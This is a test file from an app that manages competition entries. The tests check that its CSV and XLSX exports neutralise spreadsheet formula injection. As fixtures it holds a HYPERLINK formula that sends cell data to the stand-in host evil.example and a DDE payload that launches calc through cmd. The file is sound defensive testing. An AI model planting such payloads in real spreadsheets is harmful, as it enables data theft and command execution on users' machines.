// Issue 11, item 6 (export side): titles such as =HYPERLINK("http://…"&B2,"Click me"), +SUM(1,2)
// and @SUM(A1:A9) came out unchanged at the start of a cell in the compliance and ranking CSVs and
// in `kepu rank --csv`, where Excel/WPS run them as formulas. Every CSV the app writes now goes
// through one writer that neutralises such text (a leading apostrophe) and leaves numbers —
// negative z-scores included — as numbers. The XLSX exports write such text as text, never as a
// formula (checked in the sheet XML itself).
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import { describe, expect, it } from 'vitest';
import type { CampaignSummary, ExportFile, MediaLinkJob } from '../../../src-main/contract';
import { csvDocument, csvField } from '../../../src-main/core/export/csv';
import { parseCsv } from '../../../src-main/core/intake/csv';
import { importRegistrations } from '../../../src-main/core/intake/import-registrations';
import { ok, openTestApp, repoRoot, tempDir, finishedJob } from '../../helpers';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click me")';
const PLUS = '+SUM(1,2)';
const AT = '@SUM(A1:A9)';
const MINUS = '-2+3';
const hostile = [HYPERLINK, PLUS, AT, MINUS];

/** The cells of a CSV export (BOM dropped), read by the app's own RFC 4180 reader. */
function cellsOf(file: ExportFile | string): string[][] {
  const text = typeof file === 'string' ? file : Buffer.from(file.contentBase64, 'base64').toString('utf8');
  return parseCsv(text.replace(/^\ufeff/, ''));
}

/** Every worksheet's XML of an XLSX file. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  let xml = '';
  for await (const entry of zip.eachEntry()) {
    if (!/^xl\/worksheets\/.+\.xml$/.test(entry.fileName)) continue;
    for await (const chunk of await zip.openReadStreamPromise(entry)) xml += (chunk as Buffer).toString('utf8');
  }
  return xml;
}

/** Cells holding one of the hostile texts, in every sheet, with how exceljs reads their type. */
async function hostileCells(bytes: Buffer): Promise<{ value: unknown; type: number }[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const found: { value: unknown; type: number }[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => {
      if (hostile.includes(String(cell.value)) || (typeof cell.value === 'object' && cell.value && 'formula' in cell.value)) found.push({ value: cell.value, type: cell.type });
    }));
  }
  return found;
}

describe('the CSV writer', () => {
  it('neutralises text starting with = + - @ tab or CR and leaves numbers as numbers', () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?""&B2,""Click me"")"`);
    for (const text of [PLUS, AT, MINUS, '\t=1+1', '\r=1+1', '-']) expect(csvField(text)).toBe(`"'${text}"`);
    for (const text of ['SC-0001', '七步洗手法', 'a=b', ' =1', "'=already"]) expect(csvField(text)).toBe(`"${text}"`);
    expect(csvField(-0.53)).toBe('-0.53');
    expect(csvField(-2)).toBe('-2');
    expect(csvField(0)).toBe('0');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField('-0.53')).toBe(`"'-0.53"`); // text is text: a caller passes numbers as numbers
    expect(csvDocument([['a', 1], ['x"y', -1]])).toBe('\ufeff"a",1\r\n"x""y",-1\r\n');
    expect(csvDocument([['a']], { bom: false, newline: '\n' })).toBe('"a"\n');
  });
});

describe('formula injection in exports', () => {
  it('the compliance report: CSV cells neutralised, numbers kept, XLSX cells are text', async () => {
    const { ctx, dispatch } = openTestApp();
    const template = ctx.templates.get('sichuan-influence-2023');
    const campaign: CampaignSummary = ctx.campaigns.create(template.id, template.definition);
    const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const registrations = [
      '报名编号,申报类型,作品类别,作品名称,作者,联系电话,推荐理由,提交时间',
      ...hostile.map((title, i) => `SC-000${i + 1},作品,视频,${q(title)},李晓雯,13800138000,原创,2023-12-10 09:30`),
    ].join('\n');
    const imported = await importRegistrations(ctx, campaign.id, { fileName: 'r.csv', bytes: Buffer.from(registrations) });
    expect(imported.added).toHaveLength(4);
    const folder = tempDir('kepu-works-');
    const media = path.join(repoRoot, 'tests/fixtures/media');
    fs.copyFileSync(path.join(media, 'compliant.mp4'), path.join(folder, 'SC-0001.mp4'));
    fs.copyFileSync(path.join(media, 'rotated-phone.mp4'), path.join(folder, 'SC-0002.mp4'));
    fs.copyFileSync(path.join(media, 'photo.jpg'), path.join(folder, 'SC-0003.jpg'));
    fs.copyFileSync(path.join(media, 'small.png'), path.join(folder, 'SC-0004.png'));
    const status = await finishedJob(dispatch, await ok<MediaLinkJob>(dispatch('media:link', { campaignId: campaign.id, folder })));
    expect(status.state).toBe('done');

    const csv = await ok<ExportFile>(dispatch('compliance:export', { campaignId: campaign.id, format: 'csv' }));
    const rows = cellsOf(csv);
    const titles = Object.fromEntries(rows.slice(1).map((r) => [r[0], r[1]]));
    expect(titles).toEqual({ 'SC-0001': `'${HYPERLINK}`, 'SC-0002': `'${PLUS}`, 'SC-0003': `'${AT}`, 'SC-0004': `'${MINUS}` });
    // No cell of the file starts a formula; the video's duration and size are bare numbers.
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const raw = Buffer.from(csv.contentBase64, 'base64').toString('utf8');
    const video = raw.split('\r\n').find((line) => line.startsWith('"SC-0001"'))!;
    expect(video).toMatch(/,\d+(\.\d+)?,\d+,/); // duration, size: unquoted numbers

    const xlsx = await ok<ExportFile>(dispatch('compliance:export', { campaignId: campaign.id, format: 'xlsx' }));
    const bytes = Buffer.from(xlsx.contentBase64, 'base64');
    expect(await sheetXml(bytes)).not.toContain('<f>');
    const cells = await hostileCells(bytes);
    expect(cells.map((c) => c.value).sort()).toEqual([...hostile].sort());
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    ctx.close();
    fs.rmSync(folder, { recursive: true, force: true });
  });

  it('the ranking: CSV cells neutralised with negative scores still numbers, XLSX cells text, and kepu rank --csv', async () => {
    const app = openTestApp();
    const works = await ok<CampaignSummary>(app.dispatch('demo:load', {}));
    const dir = path.join(app.dataDir, 'sample-bundles');
    const files = fs.readdirSync(dir).map((f) => ({ fileName: f, contentBase64: fs.readFileSync(path.join(dir, f)).toString('base64') }));
    await ok(app.dispatch('bundle:merge', { campaignId: works.id, files }));
    // Titles and names as a registration form could send them; a registration number as an
    // installation from before the reg-no check could hold it.
    const ranked = app.ctx.db
      .prepare(`SELECT DISTINCT e.id FROM entries e JOIN scores s ON s.entry_id = e.id WHERE e.campaign_id = ? ORDER BY e.id LIMIT 3`)
      .pluck()
      .all(works.id) as number[];
    const update = app.ctx.db.prepare('UPDATE entries SET title = ?, entrant_name = ? WHERE id = ?');
    update.run(HYPERLINK, AT, ranked[0]);
    update.run(PLUS, MINUS, ranked[1]);
    app.ctx.db.prepare('UPDATE entries SET reg_no = ? WHERE id = ?').run('=cmd|\' /C calc\'!A0', ranked[2]);
    // Negative numbers must stay numbers: one entry's scores pushed below zero (a rubric scale may
    // start below zero), so its totals and scores in every method are negative.
    app.ctx.db.prepare('UPDATE scores SET value = value - 20 WHERE entry_id = ?').run(ranked[1]);

    const csv = await ok<ExportFile>(app.dispatch('ranking:export', { campaignId: works.id, format: 'csv' }));
    const rows = cellsOf(csv);
    const flat = rows.flat();
    for (const text of [HYPERLINK, AT, PLUS, MINUS, '=cmd|\' /C calc\'!A0']) expect(flat).toContain(`'${text}`);
    expect(flat.filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
    const raw = Buffer.from(csv.contentBase64, 'base64').toString('utf8');
    const line = raw.split('\r\n').find((l) => l.includes(`"'${PLUS}"`))!;
    expect(line).toMatch(/,-\d+(\.\d+)?,-\d+(\.\d+)?,/); // negative scores (z-score too): bare numbers
    expect(raw).not.toMatch(/"'-\d+(\.\d+)?"/); // never a number turned into text

    const xlsx = await ok<ExportFile>(app.dispatch('ranking:export', { campaignId: works.id, format: 'xlsx' }));
    const bytes = Buffer.from(xlsx.contentBase64, 'base64');
    expect(await sheetXml(bytes)).not.toContain('<f>');
    const cells = await hostileCells(bytes);
    expect(cells.length).toBeGreaterThanOrEqual(4);
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    app.ctx.close();

    const cli = spawnSync(process.execPath, [path.join(repoRoot, 'bin/kepu.mjs'), 'rank', '--campaign', works.id, '--method', 'zscore', '--csv', '--data-dir', app.dataDir], {
      encoding: 'utf8',
      env: { ...process.env, KEPU_LANG: 'en' },
    });
    expect(cli.status, cli.stderr).toBe(0);
    const out = parseCsv(cli.stdout);
    expect(out[0]).toEqual(['kind', 'category', 'rank', 'regNo', 'score', 'judges', 'tier']);
    expect(out.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    expect(out.map((r) => r[3])).toContain('\'=cmd|\' /C calc\'!A0');
    const scores = out.slice(1).map((r) => r[4]);
    expect(scores.some((s) => /^-\d/.test(s))).toBe(true); // negative z-scores, as numbers
    expect(cli.stdout).toMatch(/,-\d+(\.\d+)?,/);
    fs.rmSync(app.dataDir, { recursive: true, force: true });
  }, 60_000);
});
